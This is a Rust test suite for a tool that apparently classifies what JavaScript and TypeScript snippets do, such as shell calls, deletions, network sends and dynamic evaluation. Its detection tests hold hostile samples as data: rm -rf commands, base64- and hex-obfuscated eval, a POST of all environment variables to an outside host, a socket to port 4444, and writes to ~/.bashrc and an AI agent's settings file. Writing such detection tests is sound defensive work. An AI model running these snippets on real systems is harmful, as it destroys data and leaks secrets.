//! JavaScript and TypeScript.

use super::check;
use crate::code::Language::Node;

#[test]
fn everyday_programs_are_calm() {
    check(
        Node,
        &[
            ("console.log(1+1)", &["prints"]),
            ("// require('child_process').execSync('rm')\nconsole.log('child_process')", &["prints"]),
            ("/* eval(x) */ let s = `rm ${1+1}`; JSON.parse('{}')", &[]),
            ("const m = /exec\\(.*\\)/.exec(s); 'a'.replace(/x/g, 'y')", &[]),
            ("console.log(process.argv.slice(2), process.version)", &["prints"]),
            ("const fs = require('fs'); console.log(fs.readFileSync('a.json', 'utf8'))", &["read a.json", "prints"]),
            (
                "import fs from 'node:fs'\nimport path from 'path'\nconst p = path.join(__dirname, 'src', 'a.ts')\nfs.writeFileSync(p, fs.readFileSync(p, 'utf8').replace('a', 'b'))",
                &["read src/a.ts", "write src/a.ts"],
            ),
            (
                "const {readFile} = require('fs/promises'); (async () => { const t = await readFile('a'); console.log(t) })()",
                &["read a", "prints"],
            ),
            ("console.log(require('./package.json').version)", &["prints"]),
            ("const app = require('./app'); app.run()", &[]),
            ("process.stdin.on('data', d => console.log(JSON.parse(d).x))", &["prints"]),
            ("const x = process.env.NODE_ENV || 'dev'", &["env NODE_ENV"]),
            ("const { A, B: b } = process.env", &["env A", "env B"]),
            ("[3,1].sort((a, b) => a - b).map(x => x * 2).forEach(x => console.log(x))", &["prints"]),
            (
                "fetch('https://api.example/x').then(r => r.json()).then(console.log)",
                &["fetch https://api.example/x", "prints"],
            ),
            (
                "const r = await fetch(`https://api.example/${id}`); console.log(await r.text())",
                &["fetch https://api.example/*", "prints"],
            ),
            ("import axios from 'axios'; axios.get('https://x.example')", &["fetch https://x.example"]),
            ("require('http').createServer((q, r) => r.end('x')).listen(3000)", &["listens"]),
            (
                "const express = require('express'); const app = express(); app.get('/', (q, r) => r.send('x')); app.listen(3)",
                &["listens"],
            ),
            ("require('fs').mkdirSync('build', { recursive: true }); require('fs').existsSync('x')", &["write build"]),
            (
                "const { execFileSync } = require('child_process'); execFileSync('git', ['status'])",
                &["argv git|status"],
            ),
            ("for (const f of require('fs').readdirSync('src')) console.log(f)", &["prints"]),
            ("class A { exec(c) { return this.x } fetch(u) {} delete() {} }\nnew A().exec('rm')", &[]),
            ("const o = { exec() { return 1 }, eval: 2 }; o.exec('x')", &[]),
            (
                "interface X { a: string }\ntype Y = { b: number }\nconst f = (x: X): Promise<void> => { console.log(x) }\nf({ a: 'b' })",
                &["prints"],
            ),
            ("let i = a / b / c; let r = x.length / 2", &[]),
            ("new Promise(r => setTimeout(r, 10)).then(() => console.log('x'))", &["prints"]),
            ("const m = new Map(); m.delete('x'); m.get('https')", &[]),
            ("export default function main(a = 1, ...b) { return a }", &[]),
            ("if (a) b(); else c()\nwhile (x) y()\nswitch (a) { case 1: b(); break; default: c() }", &[]),
            ("const t = a ? { b: 1 } : [2]; try { x() } catch (e) { console.error(e.message) }", &["prints"]),
            ("const bc = await Bun.file('a.txt').text(); await Bun.write('b.txt', bc)", &["read a.txt", "write b.txt"]),
            ("const s = await Deno.readTextFile('a'); await Deno.writeTextFile('b', s)", &["read a", "write b"]),
            ("import { test, expect } from 'vitest'\ntest('x', () => { expect(1).toBe(1) })", &[]),
            ("const obj = { ...a, b: 2 }; const [x, ...y] = z; const { q = 1 } = w", &[]),
        ],
    );
}

#[test]
fn what_reaches_out_is_seen() {
    check(
        Node,
        &[
            ("require('child_process').execSync('rm -rf x')", &["shell rm -rf x"]),
            ("const {execSync: e} = require('child_process'); e('ls')", &["shell ls"]),
            ("const cp = require('child_' + 'process'); cp['ex' + 'ec']('ls')", &["shell ls"]),
            (
                "import { exec as x } from 'node:child_process'\nx('ls', (e, o) => console.log(o))",
                &["shell ls", "prints"],
            ),
            (
                "const { promisify } = require('util'); const run = promisify(require('child_process').exec); run('ls')",
                &["shell ls"],
            ),
            ("require('child_process').spawn('rm', ['-rf', 'x'])", &["argv rm|-rf|x"]),
            ("require('child_process').spawn('rm -rf x', { shell: true })", &["shell rm -rf x"]),
            ("require('child_process').exec(`ls ${x}`)", &["shell ls $UNKNOWN"]),
            ("require('child_process').exec(x)", &["dynamic child_process.exec"]),
            (
                "const c = 'rm'; const a = '-rf'; require('child_process').execSync([c, a, 'x'].join(' '))",
                &["shell rm -rf x"],
            ),
            ("fs.rmSync('x', {recursive: true, force: true})", &["delete all x"]),
            ("require('fs').unlinkSync('x')", &["delete x"]),
            ("import('fs').then(fs => fs.unlinkSync('x'))", &["delete x"]),
            ("import { rm } from 'fs/promises'\nawait rm('x', { recursive: true })", &["delete all x"]),
            (
                "const fs = require('fs'); for (const f of fs.readdirSync('src')) fs.unlinkSync('src/' + f)",
                &["delete src/*"],
            ),
            (
                "const fs = require('fs'); fs.readdirSync('src').forEach(f => fs.unlinkSync(`src/${f}`))",
                &["delete src/*"],
            ),
            ("['a', 'b'].forEach(require('fs').unlinkSync)", &["delete a", "delete b"]),
            ("require('rimraf').sync('build')", &["delete all build"]),
            ("import fse from 'fs-extra'; fse.removeSync('x')", &["delete all x"]),
            ("fs.writeFileSync(process.env.HOME + '/.bashrc', 'x')", &["env HOME", "write ?"]),
            (
                "require('fs').writeFileSync(require('path').join(require('os').homedir(), '.claude/settings.json'), '{}')",
                &["write ~/.claude/settings.json"],
            ),
            ("require('fs').appendFileSync('a', 'b')", &["append a"]),
            ("eval(x)", &["dynamic eval"]),
            ("eval(\"require('fs').unlinkSync('x')\")", &["delete x"]),
            ("eval(atob('cmVxdWlyZSgnZnMnKS5ybVN5bmMoJ3gnKQ=='))", &["delete x"]),
            (
                "eval(Buffer.from('726571756972652827667327292e726d53796e632827782729', 'hex').toString())",
                &["delete x"],
            ),
            ("new Function('require(\"fs\").unlinkSync(\"x\")')()", &["delete x"]),
            ("[].constructor.constructor('process.exit()')()", &[]),
            ("''.constructor.constructor(x)()", &["dynamic Function"]),
            ("[]['constructor']['constructor']('fs.rmSync(\"x\")')()", &["delete x"]),
            ("setTimeout('fs.rmSync(\"x\")', 1)", &["delete x"]),
            ("require('vm').runInThisContext(x)", &["dynamic vm.runInThisContext"]),
            ("require(x)", &["dynamic require"]),
            ("process.binding('spawn_sync')", &["native process.binding"]),
            ("process.mainModule.require('child_process').exec('ls')", &["shell ls"]),
            ("globalThis['ev' + 'al']('fs.rmSync(\"x\")')", &["delete x"]),
            ("require('child_process')[x]('ls')", &["dynamic child_process"]),
            ("const f = String.fromCharCode(108, 115); require('child_process').execSync(f)", &["shell ls"]),
            (
                "require('child_process').execSync([115, 108].reverse().map(c => String.fromCharCode(c)).join(''))",
                &["shell ls"],
            ),
            ("require('child_process').exec.call(null, 'ls')", &["shell ls"]),
            ("Reflect.apply(require('child_process').exec, null, ['ls'])", &["shell ls"]),
            (
                "function run(c) { require('child_process').execSync(c) }\nrun('ls'); run('rm x')",
                &["shell ls", "shell rm x"],
            ),
            ("run('ls')\nfunction run(c) { require('child_process').execSync(c) }", &["shell ls"]),
            (
                "fetch('https://x.example', { method: 'POST', body: JSON.stringify(process.env) })",
                &["env *", "send https://x.example"],
            ),
            ("console.log(process.env)", &["prints", "env *"]),
            ("spawn('make', { env: { ...process.env, A: '1' } })", &[]),
            ("require('https').request({ hostname: 'x.example', method: 'POST' })", &["send x.example"]),
            ("const s = new (require('net').Socket)(); s.connect(4444, '10.0.0.1')", &["socket 10.0.0.1:4444"]),
            ("require('net').connect({ port: 1, host: 'h' })", &["socket h:1"]),
            ("new WebSocket('wss://x.example')", &["send wss://x.example"]),
            ("await $`rm -rf ${x}`", &["shell rm -rf $UNKNOWN"]),
            ("new Deno.Command('rm', { args: ['-rf', 'x'] }).output()", &["argv rm|-rf|x"]),
            ("Deno.removeSync('x', { recursive: true })", &["delete all x"]),
            ("Bun.spawn(['rm', 'x'])", &["argv rm|x"]),
            ("db.query('DELETE FROM t')", &["sql DELETE FROM t"]),
            (
                "const Database = require('better-sqlite3'); new Database('a.db').exec('drop table t')",
                &["read a.db", "sql drop table t", "write a.db"],
            ),
            ("process.kill(1)", &["kill"]),
            ("fs.chmodSync('x', 0o777)", &["rights x"]),
            (
                "require('fs').renameSync('a', 'b'); require('fs').copyFileSync('c', 'd')",
                &["write a", "write b", "read c", "write d"],
            ),
            ("console.log('a", &["!", "prints"]),
            ("const x = { f: require('child_process').exec }; x.f('ls')", &["shell ls"]),
            (
                "class A { constructor() { this.e = require('child_process').exec } go() { this.e('ls') } }",
                &["shell ls"],
            ),
            ("Object.values(require('child_process')).map(f => f('ls'))", &["dynamic Object.values"]),
            ("const {unlinkSync} = {...require('fs')}; unlinkSync('x')", &["dynamic fs"]),
            ("with (require('fs')) unlinkSync('x')", &["dynamic fs"]),
            (
                "namespace N { require('fs').unlinkSync('x') }\ntype T = { a: 1 }\nrequire('fs').rmSync('y')",
                &["delete x", "delete y"],
            ),
            ("type\nx = eval(y)", &["dynamic eval"]),
            ("arr.map(x => require('fs').unlinkSync(x))", &["delete ?"]),
            ("if (1) /\"/.exec(''); require('fs').unlinkSync('x') //\"", &["delete x"]),
        ],
    );
}
